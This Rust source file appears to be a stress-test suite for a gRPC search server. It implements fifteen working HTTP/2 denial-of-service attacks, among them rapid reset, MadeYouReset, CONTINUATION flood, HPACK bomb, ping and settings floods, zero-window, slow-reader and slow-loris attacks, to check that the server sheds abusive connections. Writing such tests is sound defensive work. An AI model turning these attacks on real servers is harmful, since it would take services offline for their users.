//! Catalog of attacks on the gRPC listener. Each acts on one connection until the server ends the connection or all its streams.

use std::{collections::HashSet, io, net::SocketAddr, ops::Range, pin::Pin, sync::LazyLock, time::Duration};

use nearby_proto::v1::{MerchantView, Position, SearchNearbyRequest};
use tokio::time::sleep;

use super::{
    frames::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, RawConnection, SETTINGS,
        Termination, WINDOW_UPDATE, frame, head, literal,
    },
    watch_storm::watch_storm,
};
use crate::h2_client::encode_framed;

/// Runs an attack on a server and returns how the server ended it. The number is unique among the clients of all attacks.
pub(super) type AttackFn =
    fn(SocketAddr, usize) -> Pin<Box<dyn Future<Output = io::Result<Termination>> + Send>>;

/// An attack.
#[derive(Debug)]
pub struct Attack {
    /// Name.
    pub name: &'static str,
    /// The listener that is attacked.
    pub listener: Listener,
    /// Number of concurrent connections.
    pub connections: usize,
    /// Time within which the server must end a connection.
    pub limit: Duration,
    /// Duration for which well-behaved callers are measured during the attack.
    pub measure_for: Duration,
    /// `true` if the server must end each connection within the limit. Idle connections may stay, and those that take little memory.
    pub must_end: bool,
    /// Bytes by which the memory of the server may grow, if that is what is tested.
    pub max_growth_bytes: Option<u64>,
    pub(super) run: AttackFn,
}

/// A listener of the server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Listener {
    /// Of gRPC.
    Grpc,
    /// Of HTTP.
    Http,
}

/// Maximum number of connections of an attack.
pub(super) const MAX_CONNECTIONS: usize = 10_000;

pub(super) const fn attack(name: &'static str, connections: usize, limit_s: u64, run: AttackFn) -> Attack {
    let measure_for = Duration::from_secs(5);
    let limit = Duration::from_secs(limit_s);
    let listener = Listener::Grpc;
    Attack { name, listener, connections, limit, measure_for, must_end: true, max_growth_bytes: None, run }
}

/// All attacks on the gRPC listener.
pub(super) static ATTACKS: [Attack; 15] = [
    attack("rapid-reset", 4, 10, |to, number| Box::pin(rapid_reset(to, number))),
    attack("paced-reset", 4, 10, |to, number| Box::pin(paced_reset(to, number))),
    attack("made-you-reset", 4, 10, |to, number| Box::pin(made_you_reset(to, number))),
    attack("continuation-flood", 4, 10, |to, number| Box::pin(continuation_flood(to, number))),
    attack("header-bomb", 4, 10, |to, number| Box::pin(header_bomb(to, number))),
    attack("hpack-bomb", 4, 10, |to, number| Box::pin(hpack_bomb(to, number))),
    attack("silent", 200, 7, |to, number| Box::pin(silent(to, number))),
    attack("half-preface", 200, 7, |to, number| Box::pin(half_preface(to, number))),
    attack("settings-flood", 4, 60, |to, number| {
        Box::pin(flood(to, number, frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])))
    }),
    attack("ping-flood", 4, 60, |to, number| Box::pin(flood(to, number, frame(PING, 0, 0, b"are you?")))),
    attack("zero-window", 4, 75, |to, number| Box::pin(zero_window(to, number))),
    Attack {
        // Unread responses may take 512 MiB, and the connections themselves and what closing ones still hold the rest.
        max_growth_bytes: Some(768 * 1024 * 1024),
        must_end: false,
        measure_for: Duration::from_secs(20),
        ..attack("slow-readers", 300, 25, |to, number| Box::pin(slow_readers(to, number)))
    },
    // They cost time of their own principal only.
    Attack {
        must_end: false,
        ..attack("watch-storm", 4, 10, |to, number| Box::pin(watch_storm(to, number)))
    },
    attack("slow-body", 4, 75, |to, number| Box::pin(slow_body(to, number))),
    Attack {
        must_end: false,
        measure_for: Duration::from_secs(20),
        ..attack("idle", MAX_CONNECTIONS, 25, |to, number| Box::pin(idle(to, number)))
    },
];

const SEARCH: &str = "/nearby.v1.NearbyService/SearchNearby";

/// Number of frames or calls per write.
const BATCH: u32 = 100;

/// Writes without end and reads until the server ends the connection.
async fn until_ended(
    connection: RawConnection,
    mut next: impl FnMut(u32) -> Vec<u8>,
) -> io::Result<Termination> {
    let RawConnection { mut reads, mut writes } = connection;
    let write = async {
        for round in 0.. {
            use tokio::io::AsyncWriteExt;
            if writes.write_all(&next(round)).await.is_err() {
                // The server may still send a GOAWAY that says why.
                return sleep(Duration::from_secs(1)).await;
            }
        }
    };
    let listen = RawConnection::read_until(&mut reads, |_, _, _| false);
    tokio::select! {
        // The server no longer reads.
        () = write => Ok(Termination::Closed),
        ended = listen => ended,
    }
}

/// CVE-2023-44487 (rapid reset): calls that are reset as soon as they are started.
async fn rapid_reset(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let connection = RawConnection::handshake(to, number, &[]).await?;
    let block = head(SEARCH);
    until_ended(connection, move |round| reset_calls(&block, round * BATCH..(round + 1) * BATCH)).await
}

/// Rapid reset in batches that stay within a client's burst allowance, each sent after a PING confirms the previous one.
async fn paced_reset(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let mut connection = RawConnection::handshake(to, number, &[]).await?;
    let block = head(SEARCH);
    for round in 0.. {
        let calls = reset_calls(&block, round * BATCH..(round + 1) * BATCH);
        if connection.write(&[calls, frame(PING, 0, 0, b"seen it?")].concat()).await.is_err() {
            break;
        }
        let ended = RawConnection::read_until(&mut connection.reads, |kind, flags, _| {
            kind == PING && flags & ACK != 0
        });
        match ended.await? {
            Termination::Streams => {}
            ended => return Ok(ended),
        }
    }
    Ok(Termination::Closed)
}

fn reset_calls(block: &[u8], calls: Range<u32>) -> Vec<u8> {
    let streams = calls.map(|at| 2 * at + 1);
    let both = streams.map(|stream| {
        [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
            .concat()
    });
    both.collect::<Vec<_>>().concat()
}

/// CVE-2025-8671 (MadeYouReset): protocol errors that make the server itself reset the calls.
async fn made_you_reset(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let connection = RawConnection::handshake(to, number, &[]).await?;
    let block = head(SEARCH);
    until_ended(connection, move |round| {
        let streams = (round * BATCH..(round + 1) * BATCH).map(|at| 2 * at + 1);
        // A window beyond 2^31 - 1 is a stream error (RFC 9113, 6.9.1).
        let both = streams.map(|stream| {
            [
                frame(HEADERS, END_HEADERS, stream, &block),
                frame(WINDOW_UPDATE, 0, stream, &0x7FFF_FFFF_u32.to_be_bytes()),
            ]
            .concat()
        });
        both.collect::<Vec<_>>().concat()
    })
    .await
}

/// CVE-2024-27316 (CONTINUATION flood): a header block that never ends.
async fn continuation_flood(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let connection = RawConnection::handshake(to, number, &[]).await?;
    until_ended(connection, |round| match round {
        0 => frame(HEADERS, 0, 1, &head(SEARCH)),
        _ => frame(CONTINUATION, 0, 1, &literal("x-more", &"m".repeat(1_000))),
    })
    .await
}

/// Header blocks of one megabyte each.
async fn header_bomb(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let connection = RawConnection::handshake(to, number, &[]).await?;
    until_ended(connection, |round| {
        let stream = 2 * round + 1;
        let piece = frame(CONTINUATION, 0, stream, &BOMB);
        [
            frame(HEADERS, END_STREAM, stream, &head(SEARCH)),
            piece.repeat(64),
            frame(CONTINUATION, END_HEADERS, stream, &[]),
        ]
        .concat()
    })
    .await
}

/// A header of 16 kB, built once: the measured callers share the processor with the attackers.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| literal("x-bomb", &"b".repeat(16_000)));

/// HPACK bomb: one large header in the dynamic table, referenced 12,000 times per call at one byte each.
async fn hpack_bomb(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let connection = RawConnection::handshake(to, number, &[]).await?;
    until_ended(connection, |round| {
        let stream = 2 * round + 1;
        let mut block = head(SEARCH);
        if round == 0 {
            // Literal with incremental indexing: the first dynamic entry has index 62.
            let mut kept = literal("x-bomb", &"b".repeat(4_000));
            kept[0] = 0x40;
            block.extend(kept);
        }
        block.extend([0x80 | 62; 12_000]);
        frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
    })
    .await
}

/// Connects and sends nothing.
async fn silent(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let mut connection = RawConnection::connect(to, number).await?;
    RawConnection::read_until(&mut connection.reads, |_, _, _| false).await
}

/// Sends half of the HTTP/2 connection preface.
async fn half_preface(to: SocketAddr, number: usize) -> io::Result<Termination> {
    let mut connection = RawConnection::connect(to, number).await?;
    connection.write(b"PRI * HTTP/2.0\r\n").await?;
    RawConnection::read_until(&mut connection.reads, |_, _, _| false).await
}

/// Sends frames that require a response, and never reads the responses.
async fn flood(to: SocketAddr, number: usize, one: Vec<u8>) -> io::Result<Termination> {
    use tokio::io::AsyncWriteExt;
    let mut connection = RawConnection::handshake(to, number, &[]).await?;
    let many = one.repeat(1_000);
    while connection.writes.write_all(&many).await.is_ok() {}
    Ok(Termination::Closed)
}

/// Streams that the server has not ended yet.
struct Streams(HashSet<u32>);

impl Streams {
    fn new(count: u32) -> Self {
        Self((0..count).map(|at| 2 * at + 1).collect())
    }

    /// Observes a frame; returns `true` once every stream has ended.
    fn see(&mut self, kind: u8, flags: u8, stream: u32) -> bool {
        if kind == RST_STREAM || (matches!(kind, HEADERS | DATA) && flags & END_STREAM != 0) {
            self.0.remove(&stream);
        }
        self.0.is_empty()
    }
}

/// Requests large responses with a stream window of zero.
async fn zero_window(to: SocketAddr, number: usize) -> io::Result<Termination> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let mut connection = RawConnection::handshake(to, number, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
    let origin = Position { latitude: 60.17, longitude: 24.94, coordinate_system: 1, accuracy_m: None };
    let search =
        encode_framed(&SearchNearbyRequest { origin: Some(origin), page_size: 400, ..Default::default() });
    for at in 0..BATCH {
        let stream = 2 * at + 1;
        connection.write(&frame(HEADERS, END_HEADERS, stream, &head(SEARCH))).await?;
        connection.write(&frame(DATA, END_STREAM, stream, &search)).await?;
    }
    let mut streams = Streams::new(BATCH);
    RawConnection::read_until(&mut connection.reads, |kind, flags, stream| streams.see(kind, flags, stream))
        .await
}

/// Requests large responses with the largest windows and reads none of them.
async fn slow_readers(to: SocketAddr, number: usize) -> io::Result<Termination> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    const MAX_WINDOW: u32 = 0x7FFF_FFFF;
    let mut connection = RawConnection::handshake(to, number, &[(INITIAL_WINDOW_SIZE, MAX_WINDOW)]).await?;
    let more = MAX_WINDOW - 65_535;
    connection.write(&frame(WINDOW_UPDATE, 0, 0, &more.to_be_bytes())).await?;
    let origin = Position { latitude: 60.17, longitude: 24.94, coordinate_system: 1, accuracy_m: None };
    let view = MerchantView::Full.into();
    let search = encode_framed(&SearchNearbyRequest {
        origin: Some(origin),
        page_size: 500,
        view,
        ..Default::default()
    });
    for at in 0.. {
        let stream = 2 * at + 1;
        let call =
            [frame(HEADERS, END_HEADERS, stream, &head(SEARCH)), frame(DATA, END_STREAM, stream, &search)];
        // A write fails once the server has closed the connection.
        if connection.write(&call.concat()).await.is_err() {
            break;
        }
        // Most calls of the burst are shed. Those that follow keep the server at its limits.
        if at >= BATCH {
            sleep(Duration::from_millis(500)).await;
        }
    }
    Ok(Termination::Closed)
}

/// Slow-loris: request bodies at one byte per second.
async fn slow_body(to: SocketAddr, number: usize) -> io::Result<Termination> {
    const STREAMS: u32 = 50;
    let mut connection = RawConnection::handshake(to, number, &[]).await?;
    for at in 0..STREAMS {
        connection.write(&frame(HEADERS, END_HEADERS, 2 * at + 1, &head(SEARCH))).await?;
    }
    let RawConnection { mut reads, mut writes } = connection;
    let trickle = async move {
        use tokio::io::AsyncWriteExt;
        for round in 0_u32.. {
            // A length prefix whose message never arrives completely.
            let byte = if round == 3 { 4 } else { 0 };
            let all: Vec<Vec<u8>> = (0..STREAMS).map(|at| frame(DATA, 0, 2 * at + 1, &[byte])).collect();
            if writes.write_all(&all.concat()).await.is_err() {
                break;
            }
            sleep(Duration::from_secs(1)).await;
        }
    };
    let mut streams = Streams::new(STREAMS);
    let ended = RawConnection::read_until(&mut reads, |kind, flags, stream| streams.see(kind, flags, stream));
    tokio::select! {
        () = trickle => Ok(Termination::Closed),
        ended = ended => ended,
    }
}

/// Completes the HTTP/2 handshake and stays idle.
async fn idle(to: SocketAddr, number: usize) -> io::Result<Termination> {
    // Spread over 2 s: the accept queue is not what is tested here.
    sleep(Duration::from_micros(200 * (number % MAX_CONNECTIONS) as u64)).await;
    let mut connection = RawConnection::handshake(to, number, &[]).await?;
    RawConnection::read_until(&mut connection.reads, |_, _, _| false).await
}
